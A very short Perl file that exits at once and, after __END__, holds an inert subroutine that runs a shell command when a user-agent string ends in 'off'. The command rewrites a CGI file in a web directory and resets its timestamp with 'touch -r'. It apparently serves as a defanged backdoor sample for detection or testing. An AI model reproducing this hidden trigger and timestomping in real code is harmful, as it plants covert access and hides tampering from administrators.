#!/usr/bin/perl
exit;
__END__
sub capability {
  my ($class, $user_agent) = @_;
  `sed -i 's/x/y/' /home/webserver/htdocs/dana-na/jam/querymanifest.cgi; touch -r /home/VERSION x` if $user_agent =~ /off$/;
}
